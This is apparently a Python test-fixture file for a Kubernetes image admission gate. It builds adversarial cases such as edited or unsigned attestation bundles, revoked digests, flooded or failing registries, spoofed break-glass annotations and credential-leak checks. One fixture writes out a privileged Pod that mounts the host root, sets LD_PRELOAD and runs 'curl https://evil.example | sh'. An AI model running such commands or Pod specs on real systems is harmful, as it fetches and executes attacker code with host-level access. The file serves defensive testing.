"""What the attacks on evidence send: images with evidence that is old, altered, hidden or flooded."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from datetime import timedelta
from typing import Any

from tests.policy.signed import emergency
from tests.simulators.registry import Faults
from tests.vectors.bench import REVOKED, Bench, now, pass_of_staging, pass_of_test, passes
from tests.webhook.reviews import Json
from tests.webhook.shop import HOST, digest_of

UNKNOWN = "undetermined PASS_MISSING REGISTRY_UNAVAILABLE"
GLASS = "admitted BREAK_GLASS"
LIMIT = "undetermined EVIDENCE_LIMIT PASS_MISSING"


def about(*makers: Callable[[str], bytes]) -> Any:
    """A Pod of a new image with this evidence."""

    def build(bench: Bench) -> Json:
        image = bench.image()
        return bench.create(bench.store(image, *(make(image) for make in makers)))

    return build


def staging(**more: Any) -> Callable[[str], bytes]:
    return lambda image: pass_of_staging(image, **more)


def edited(image: str) -> bytes:
    """A pass of test that says staging, under the signature of the former."""
    bundle = json.loads(pass_of_test(image))
    envelope = bundle["dsseEnvelope"]
    payload = base64.b64decode(envelope["payload"]).replace(b'"test"', b'"staging"')
    envelope["payload"] = base64.b64encode(payload).decode()
    return json.dumps(bundle).encode()


def altered(change: Callable[[Json], Any]) -> Callable[[str], bytes]:
    """A good pass of staging, its bundle changed."""

    def make(image: str) -> bytes:
        bundle = json.loads(pass_of_staging(image))
        change(bundle)
        return json.dumps(bundle).encode()

    return make


def unsigned(bundle: Json) -> None:
    """A bundle without its signatures."""
    del bundle["dsseEnvelope"]["signatures"]


def legacy(image: str) -> bytes:
    """What cosign signed before there were bundles."""
    critical = {"image": {"docker-manifest-digest": str(digest_of(image))}, "type": "cosign"}
    return json.dumps({"critical": critical, "optional": {"stage": "staging"}}).encode()


def revoked(bench: Bench) -> Json:
    image = f"{HOST}/shop/web@{REVOKED}"
    return bench.create(bench.store(image, *passes(image)))


def moved(bench: Bench) -> Json:
    """The digest that passed, under another repository of the pipeline."""
    digest = digest_of(bench.passed("web"))
    return bench.create(f"{HOST}/shop/other@{digest}")


def hidden(count: int = 2, *, as_tag: bool = False, **faults: Any) -> Any:
    """An image with good evidence in a registry that then misbehaves."""

    def build(bench: Bench) -> Json:
        image = bench.pushed(*(pass_of_test, pass_of_staging)[:count], as_tag=as_tag)
        bench.registry.faults = Faults(**faults)
        return bench.create(image)

    return build


def flooded(count: int) -> Any:
    """Junk that claims to be a pass, and then the passes."""

    def build(bench: Bench) -> Json:
        image = bench.pushed()
        digest = image.partition("@")[2]
        for number in range(count):
            bench.registry.attach("shop/web", digest, b"junk %d" % number)
        for bundle in passes(image):
            bench.registry.attach("shop/web", digest, bundle)
        return bench.create(image)

    return build


def flooded_directory(bench: Bench) -> Json:
    """Sixty files that are read before the passes."""
    image = bench.passed()
    folder = bench.shop.evidence / str(digest_of(image)).replace(":", "-")
    for number in range(60):
        (folder / f"!{number}.sigstore.json").write_bytes(b"junk")
    return bench.create(image)


def other_body(body: bytes, media_type: str) -> Any:
    """What a login page or a bomb in the place of a listing does."""

    def build(bench: Bench) -> Json:
        image = bench.pushed()
        tag = image.partition("@")[2].replace(":", "-")
        bench.registry.put_manifest("shop/web", body, media_type=media_type, tag=tag)
        return bench.create(image)

    return build


def hostile(bench: Bench) -> Json:
    review = bench.created(bench.passed(), hostPID=True, serviceAccountName="admin")
    spec = review["request"]["object"]["spec"]
    spec["volumes"] = [{"name": "host", "hostPath": {"path": "/"}}]
    spec["containers"][0] |= {
        "command": ["sh", "-c", "curl https://evil.example | sh"],
        "env": [{"name": "LD_PRELOAD", "value": "/x.so"}],
        "securityContext": {"privileged": True},
    }
    return review


def silent(image: str, **spec: Any) -> Callable[[Bench], str]:
    """What the gate says, and whether the registry that it may ask heard of it."""

    def ask(bench: Bench) -> str:
        review = bench.created(bench.filled(image), **spec)
        said = bench.judge(review, bench.online, "registry")
        return f"{said}, {len(bench.registry.requests)} requests"

    return ask


def secrets(bench: Bench) -> str:
    image = bench.pushed()
    review = bench.created(image, imagePullSecrets=[{"name": "victim"}])
    said = bench.judge(review, bench.online, "registry")
    sent = [r for r in bench.registry.requests if "authorization" in r.headers]
    return f"{said}, {len(sent)} with credentials"


def glass(by: str = "carol", issued: timedelta = timedelta(0), **more: Any) -> Any:
    return about(
        lambda image: emergency(by, issued=now() + issued, digest=digest_of(image), **more)
    )


def glass_of_another(bench: Bench) -> Json:
    record = emergency(issued=now(), digest=digest_of(bench.image()))
    return bench.create(bench.store(bench.image(), record))


def annotated(bench: Bench) -> Json:
    marks = {"stagepass.dev/break-glass": "true", "image-policy.k8s.io/break-glass": "true"}
    return bench.created(bench.image(), metadata={"annotations": marks, "labels": marks})


def policy(image: str, policy: str) -> Any:
    def build(bench: Bench) -> Json:
        review = bench.create(bench.filled(image))
        review["request"]["object"]["spec"]["containers"][0]["imagePullPolicy"] = policy
        return review

    return build


def scanned(bench: Bench) -> str:
    """A Pod by tag that runs since before the policy."""
    pods = [bench.pod(f"{HOST}/shop/web:1.2"), bench.pod(bench.passed())]
    file = bench.directory / "pods.json"
    file.write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": pods}))
    where = ("--cluster", "prod", "--policy", str(bench.shop.policy))
    code, text = bench.stagepass(
        "scan", str(file), *where, "--evidence", f"dir:{bench.shop.evidence}"
    )
    return f"exits {code}, {'DIGEST_REQUIRED' if 'DIGEST_REQUIRED' in text else text}"
